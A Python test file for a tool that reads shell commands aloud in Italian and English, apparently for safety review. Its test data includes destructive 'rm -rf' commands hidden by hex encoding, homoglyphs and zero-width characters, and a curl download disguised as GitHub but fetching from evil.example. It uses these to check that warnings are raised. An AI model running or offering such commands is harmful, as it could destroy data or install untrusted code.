"""How commands are read aloud."""

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from tests.commands import rows
from tests.growth import is_linear
from voicehermes.deciding.commands.reading import LONGEST, NEARLY_SHORT, SHORT, read_command
from voicehermes.deciding.commands.shell_tokens import Kind, cut
from voicehermes.lexicon import Language
from voicehermes.lexicon.commands import load

IT = load("it")


def full(command: str, language: Language = "it") -> str:
    return read_command(command, load(language)).full


@pytest.mark.parametrize(("command", "reading"), rows("readings_it.tsv"))
def test_a_command_is_read_in_italian(command: str, reading: str) -> None:
    assert full(command) == reading


@pytest.mark.parametrize(("command", "reading"), rows("readings_en.tsv"))
def test_a_command_is_read_in_english(command: str, reading: str) -> None:
    assert full(command, "en") == reading


@pytest.mark.parametrize(("command", "summary"), rows("summaries_it.tsv"))
def test_a_long_command_is_summarised_in_italian(command: str, summary: str) -> None:
    reading = read_command(command, IT)
    assert reading.text == summary
    assert not reading.is_whole
    assert reading.full != summary


@pytest.mark.parametrize(("command", "summary"), rows("summaries_en.tsv"))
def test_a_long_command_is_summarised_in_english(command: str, summary: str) -> None:
    assert read_command(command, load("en")).text == summary


def test_a_short_reading_is_whole_and_a_summary_is_not() -> None:
    for command, _ in rows("readings_it.tsv"):
        reading = read_command(command, IT)
        assert reading.is_whole == (reading.text == reading.full)
        assert len(reading.text) <= NEARLY_SHORT or not reading.is_whole
        assert reading.is_whole or len(reading.full) > SHORT


WORDS = sorted(
    {word for name in [*IT.symbols.values(), *IT.operators.values()] for word in name.split()}
)
PIECES = st.sampled_from(
    [
        *"abeEоа1 \\'\"`$(){}[]|&;<>*?~!#%^+=,.:/-_@\n\t\r\u200b\u202e\u00a0é€–",
        *("-r", "-rf", "--", "$(", "${", "$'", "<<E\n", "\nE\n", "2>", ">&2", "3>&1", "\\x2f", "'"),
        *("\\057", "4 volte", "la parola", "numero di 7 cifre", "1234567", "a1b2c3", "sigla di 6"),
        *WORDS,
    ]
)


def heard(command: str) -> str:
    """What of a command must be heard: all but the spaces between its words and at its end."""
    tokens = cut(command).tokens
    kept = (t.text for t in tokens if t.kind not in {Kind.SPACE, Kind.NEWLINE})
    return "\0".join(kept).rstrip(" ")


@given(st.lists(PIECES, min_size=1, max_size=6), PIECES, st.integers(0, 5))
@example(["'", ".", "e", "virgola", "'"], ",", 3)
@example(["rm -r f"], "a", 5)
def test_commands_that_differ_by_one_piece_are_never_read_alike(
    pieces: list[str], other: str, at: int
) -> None:
    one = "".join(pieces)
    two = "".join([*pieces[:at], other, *pieces[at + 1 :]])
    for language in ("it", "en"):
        if full(one, language) == full(two, language):
            assert heard(one) == heard(two)


@given(
    st.lists(PIECES, max_size=4), st.characters(exclude_categories=["Zs", "Cc"]), st.characters()
)
def test_any_character_of_unicode_changes_the_reading(
    pieces: list[str], first: str, second: str
) -> None:
    start = "".join(pieces)
    if first != second and second not in " \t\n":
        assert full(f"{start} x{first}y") != full(f"{start} x{second}y")
        assert full(f"{start} '{first}") != full(f"{start} '{second}")


@given(st.text(max_size=60) | st.lists(PIECES, max_size=30).map("".join))
def test_any_text_is_read_in_visible_characters(command: str) -> None:
    for language in ("it", "en"):
        reading = read_command(command, load(language))
        for text in (reading.text, reading.full):
            assert text
            assert "\n" not in text
            assert text.encode().decode() == text
            assert "\u200b" not in text
            assert "\x1b" not in text


@pytest.mark.parametrize("command", ["", "   ", "\n\n", "\t"])
def test_nothing_is_told_as_nothing(command: str) -> None:
    assert read_command(command, IT).text == "un comando vuoto"


def test_a_command_of_hidden_characters_alone_is_not_nothing() -> None:
    assert "spazio unificatore" in full("\u00a0")
    assert full("\u00a0") != full("\u2003")


@pytest.mark.parametrize(
    ("command", "warning"),
    [
        ("sudo systemctl stop nginx && cp -r a\u200bb /home/ugo/progetti/vecchi/copia", "nascosto"),
        (
            "sudo systemctl stop nginx && cp -r саsа /home/ugo/progetti/vecchi/copia",
            "altri alfabeti",
        ),
        ("cd /home/ugo/progetti/vecchi && printf '\\x72\\x6d -rf /home/ugo/progetti'", "in codice"),
        ("echo 'rm -rf /home/ugo/progetti /home/ugo/altro /home/ugo/foto /home/ugo", "mai chiuse"),
        (
            "x=" + "aB3d9Kq2" * 30 + "; echo $x | base64 -d > /tmp/programma-scaricato",
            "illeggibili",
        ),
    ],
)
def test_a_summary_begins_with_what_is_odd(command: str, warning: str) -> None:
    reading = read_command(command, IT)
    assert not reading.is_whole
    assert reading.text.startswith("attenzione, ")
    assert warning in reading.text


def test_a_summary_tells_privileges_and_the_whole_host() -> None:
    command = (
        "cd /srv/dati && curl -o x https://u:p@a.very.long.host.name.example.org:8443/x && sudo ls"
    )
    text = read_command(command, IT).text
    assert "con sudo" in text
    assert "host a punto very punto long punto host punto name punto example punto org" in text


def test_the_host_is_what_stands_behind_the_last_at_sign() -> None:
    command = "curl -fsSL --retry 3 https://github.com@evil.example/install.sh -o install-github.sh"
    assert "host evil punto example" in read_command(command, IT).text


def test_a_blob_is_told_by_its_length_and_ends_and_is_never_whole() -> None:
    reading = read_command("echo " + "aB3dxQ9z" * 4, IT)
    assert "un blocco di 32 caratteri in base64 da a B maiuscola 3 d a x Q" in reading.full
    assert not reading.is_whole
    assert not read_command("aB3dxQ9z" * 4, IT).is_whole
    digest = "0123456789abcdef" * 2
    assert "un blocco di 32 cifre esadecimali da 0 1 2 3 a c d e f" in full(f"git reset {digest}")


@pytest.mark.parametrize(
    "path",
    [
        "/home/ugo/Progetti/Relazione-Trimestrale-2024/Allegati/Tabelle/Vendite.csv",
        "/usr/share/applications/org-gnome-settings-daemon-power-manager-service",
        "getElementByIdAndClassNameOrSomethingElse2",
        "lista-dei-file-da-cancellare-prima-di-domani-mattina-1",
    ],
)
def test_a_long_path_or_name_is_no_blob(path: str) -> None:
    assert "un blocco" not in full(f"rm {path}")
    assert path.rpartition("/")[2].partition("-")[0].partition(".")[0] in full(f"rm {path}")


def test_several_commands_are_counted_and_a_pipeline_is_one() -> None:
    assert full("a; b | c && d\ne").startswith("quattro comandi: ")
    assert "comandi" not in full("a | b | c")
    assert full("for x in a b; do rm $x; done").startswith("for, ")
    assert full("; ".join("a" * 30)).startswith("30 comandi: ")


def test_beyond_the_longest_the_middle_is_told_to_be_missing() -> None:
    command = "echo " + "ciao " * (LONGEST // 5 + 10)
    reading = read_command(command, IT)
    assert not reading.is_whole
    assert f"qui mancano {len(command) - 18_000} caratteri non letti" in reading.full
    assert f"un comando di {len(command)} caratteri" in reading.text
    assert "caratteri non letti" not in full(command[:LONGEST])


HOSTILE = ["$(", "'", "`", "(", "${", "cat <<E\n$(", "-", "a", "aA1", "\u200b", "с", "\\x41", "\n"]


@pytest.mark.parametrize(
    "piece", [*HOSTILE, "sudo ", "a b; ", 'echo "$(ls)" | ', "/-", "x=1 ", "<("]
)
def test_hostile_commands_are_read_quickly(piece: str) -> None:
    assert is_linear(lambda command: read_command(command, IT), piece, 10_000)
    assert len(read_command((piece * 10_000)[:10_000], IT).text) < 350


def test_a_script_of_ten_thousand_characters_and_a_megabyte_are_read_quickly() -> None:
    line = "print('ciao', x)\n"

    def read(lines: str) -> str:
        return read_command(f"python3 <<'PY'\n{lines}\nPY", IT).text

    for size in (10_000, 1_000_000):
        assert "con un programma incorporato di" in read((line * size)[:size])
        assert is_linear(read, line, size)
